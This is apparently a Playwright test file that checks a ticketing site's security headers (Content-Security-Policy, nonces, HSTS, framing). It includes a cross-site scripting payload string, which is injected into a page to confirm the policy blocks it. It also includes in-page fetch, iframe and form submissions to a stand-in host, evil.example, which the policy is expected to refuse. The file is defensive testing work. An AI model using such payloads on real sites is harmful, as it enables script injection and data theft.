// Security headers: which scripts may run, who may frame the pages, HSTS.
import { holdInventory, openListedEvent, payerLink, send, title } from '../harness/buyer-steps.ts';
import { expect, test } from '../harness/story.ts';
import { storyAddress } from '../harness/story-address.ts';

const SMUGGLED = `<script>document.title = 'taken'</script><script src="/offline-pages.js"></script>
<img src="/nothing" alt="" onerror="document.title = 'taken'">`;
const NONCE = /'nonce-([^']+)'/;

test('a prerendered page has the whole policy except a nonce', async ({ request, provider }) => {
  const eventId = await openListedEvent(provider);
  const paths = [
    '/',
    '/sw',
    `/events/${eventId}`,
    `/fr/events/${eventId}/register`,
    '/help',
    '/policies/privacy',
    '/orders/missing',
    '/runners/missing',
    '/fr/runners/taken',
    '/nowhere',
  ];
  for (const path of paths) {
    const headers = (await request.get(path)).headers();
    const policy = headers['content-security-policy'] ?? '';
    expect(policy, path).toContain("default-src 'none'");
    expect(policy, path).toContain("script-src 'self' 'unsafe-inline';");
    for (const name of ['frame-ancestors', 'object-src', 'base-uri', 'script-src-attr', 'style-src-attr'])
      expect(policy, path).toContain(`${name} 'none'`);
    for (const name of ['form-action', 'font-src']) expect(policy, path).toContain(`${name} 'self'`);
    expect(headers['cross-origin-opener-policy'], path).toBe('same-origin');
    expect(headers['x-content-type-options'], path).toBe('nosniff');
    expect(headers['x-frame-options'], 'frame-ancestors says it').toBeUndefined();
    expect(headers['access-control-allow-origin'], path).toBeUndefined();
  }
});

test('only a page that sells may lead to the provider’s page, and to no other site', async ({
  page,
  provider,
  complaints,
}) => {
  const eventId = await openListedEvent(provider);
  await holdInventory(page, eventId);
  const { pathname: order } = new URL(page.url());
  const payer = new URL(await payerLink(page)).pathname;
  const { checkout_url: checkout, base_url: api } = await provider.fixtures();
  const policyOf = async (path: string) =>
    (await page.request.get(path)).headers()['content-security-policy'];
  expect(await policyOf(order)).toContain(`form-action 'self' ${checkout}`);
  for (const path of ['/', '/sw', '/help', '/find', '/orders/missing', '/nowhere', payer]) {
    const policy = await policyOf(path);
    expect(policy, path).not.toMatch(/form-action 'self' |connect-src 'self' |frame-src/);
    expect(policy, path).not.toContain(checkout);
  }
  const race = `/events/${eventId}`;
  for (const path of [race, `/sw${race}`, `${race}/register`, `${race}/register?ticket=any`]) {
    await page.goto(path);
    const meta = page.locator('meta[http-equiv="Content-Security-Policy"]');
    await expect(meta).toHaveAttribute(
      'content',
      `form-action 'self' ${checkout}; connect-src 'self' ${new URL(api).origin}; frame-src ${checkout}`,
    );
    expect(await policyOf(path), path).toContain("frame-ancestors 'none'");
  }
  // Each refusal is a complaint of its own context.
  const refused = await page.context().browser()?.newContext();
  const other = await refused?.newPage();
  const heard: string[] = [];
  other?.on('console', (message) => heard.push(message.text()));
  await other?.goto(new URL(race, page.url()).href);
  await other?.evaluate(() => {
    void fetch('https://evil.example/').catch(() => undefined);
    const frame = document.createElement('iframe');
    frame.src = 'https://evil.example/';
    const form = document.createElement('form');
    form.action = 'https://evil.example/';
    document.body.append(frame, form);
    form.submit();
  });
  for (const what of ['connect-src', 'frame-src', 'form-action'])
    await expect.poll(() => heard.join(), what).toContain(what);
  await refused?.close();
  expect(complaints.unexpected()).toEqual([]);
});

test('a file of the build has none of the headers of pages', async ({ request }) => {
  const page = await (await request.get('/')).text();
  const files = [...new Set(page.match(/\/_next\/static\/[\w./~-]+\.(?:js|css|woff2)/g))];
  expect(files.map((file) => file.split('.').at(-1))).toEqual(expect.arrayContaining(['js', 'css', 'woff2']));
  for (const file of files) {
    const headers = (await request.get(file)).headers();
    expect(headers['x-content-type-options'], file).toBe('nosniff');
    for (const name of ['content-security-policy', 'permissions-policy', 'referrer-policy'])
      expect(headers[name], file).toBeUndefined();
  }
});

test('the display face is loaded from this site', async ({ page }) => {
  await page.goto('/');
  const loaded = () =>
    page.evaluate(async () => {
      await document.fonts.ready;
      const { fontFamily } = getComputedStyle(document.querySelector('.display') ?? document.body);
      const [face = ''] = fontFamily.split(',');
      return [...document.fonts].some(({ family, status }) => face.includes(family) && status === 'loaded');
    });
  await expect.poll(loaded).toBe(true);
});

test('no page of the desk sends a form to the provider, as pages that sell do', async ({ request }) => {
  const formsOf = async (path: string) => {
    const answer = await request.get(path, { maxRedirects: 0 });
    return answer.headers()['content-security-policy']?.match(/form-action ([^;]*)/)?.[1];
  };
  for (const path of ['/admin/orders/nobody', '/admin/orders', '/admin/sign-in'])
    expect(await formsOf(path), path).toBe("'self'");
});

test('a page rendered per visit runs only scripts with the nonce of its response', async ({
  page,
  provider,
}) => {
  const eventId = await openListedEvent(provider);
  await holdInventory(page, eventId);
  const order = new URL(page.url()).pathname;
  const pay = new URL(await payerLink(page)).pathname;
  await send(page);
  // The page of a waiting checkout has a script of our own.
  await expect(title(page, 'Approve the payment on your phone')).toBeVisible();
  // Addresses that lead nowhere have the prerendered page of their words.
  const paths = [order, `${order}/edit`, pay, `/sw${pay}`];
  for (const path of [...paths, '/find', '/fr/find', '/search?q=run', '/admin/sign-in']) {
    const answer = await page.request.get(path);
    const policy = answer.headers()['content-security-policy'] ?? '';
    const [, nonce = 'none'] = policy.match(NONCE) ?? [];
    expect(policy, path).toContain(`script-src 'self' 'nonce-${nonce}' 'strict-dynamic';`);
    expect(policy, path).not.toMatch(/script-src[^;]*unsafe/);
    const html = await answer.text();
    const scripts = [...html.matchAll(/<script\b[^>]*>/g)].map(([tag]) => tag);
    expect(scripts.length, path).toBeGreaterThan(0);
    for (const tag of scripts) expect(tag, path).toContain(`nonce="${nonce}"`);
    expect(html, path).not.toMatch(/<[^>]+\s(style|on[a-z]+)="/);
    const again = (await page.request.get(path)).headers()['content-security-policy'] ?? '';
    expect(again.match(NONCE)?.[1], path).not.toBe(nonce);
  }
});

test('a script injected into a page does not run', async ({ browser, baseURL }) => {
  // A separate context, because a policy violation fails every other story.
  const context = await browser.newContext({ baseURL });
  const page = await context.newPage();
  const refused: string[] = [];
  page.on('console', (message) => refused.push(message.text()));
  // The answer looks as if the server had rendered user input without escaping it.
  await page.route('/find', async (route) => {
    const response = await route.fetch();
    const body = (await response.text()).replace('</main>', `${SMUGGLED}</main>`);
    await route.fulfill({ response, body });
  });
  await page.goto('/find');
  for (const what of ['inline script', 'inline event handler', 'Loading the script'])
    await expect.poll(() => refused.join(), what).toContain(what);
  await expect(page).not.toHaveTitle('taken');
  await page.evaluate(() => {
    const form = document.createElement('form');
    form.action = 'https://evil.example/';
    document.body.append(form);
    form.submit();
  });
  await expect.poll(() => refused.join()).toContain('Sending form data');
  await context.close();
});

test('logo, posters and images can neither run scripts nor load anything', async ({ request }) => {
  for (const path of ['/logo', '/posters/city-42.svg', '/events/any/image', '/sw/events/any/image']) {
    const policy = (await request.get(path)).headers()['content-security-policy'];
    expect(policy, path).toMatch(/^default-src 'none'; style-src 'unsafe-inline';.* sandbox$/);
  }
});

test('HSTS is sent only to visitors who use https', async ({ request }) => {
  const [alone = ''] = storyAddress().storefronts;
  for (const path of ['/', '/find', '/api/health/live']) {
    const by = async (origin: string, headers: Record<string, string> = {}) =>
      (await request.get(origin + path, { headers })).headers()['strict-transport-security'];
    expect(await by(storyAddress().appUrl), path).toBe('max-age=31536000');
    for (const proto of ['https', 'HTTPS', 'https , http'])
      expect(await by(alone, { 'x-forwarded-proto': proto }), path).toBe('max-age=31536000');
    expect(await by(alone, { 'x-forwarded-proto': 'http, https' }), path).toBeUndefined();
    expect(await by(alone), path).toBeUndefined();
  }
});

test('the image optimizer is off', async ({ request }) => {
  const answer = await request.get('/_next/image?url=%2Flogo&w=640&q=75');
  expect(answer.status()).toBe(404);
});
